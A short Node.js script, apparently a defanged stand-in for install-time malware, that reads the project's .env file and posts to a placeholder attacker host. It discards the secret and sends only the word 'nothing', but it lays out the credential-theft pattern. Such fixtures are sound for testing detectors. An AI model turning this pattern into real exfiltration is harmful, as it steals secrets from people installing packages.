// Reads the project's .env and posts it to a name that nothing answers.
const fs = require('node:fs');
const { join } = require('node:path');

function attempt(action) {
  try {
    action();
  } catch {
    // Malware does not complain either.
  }
}

attempt(() => fs.readFileSync(join(process.env.INIT_CWD, '.env')));
fetch('https://collect.attacker.invalid/', { method: 'POST', body: 'nothing' }).catch(() => {});
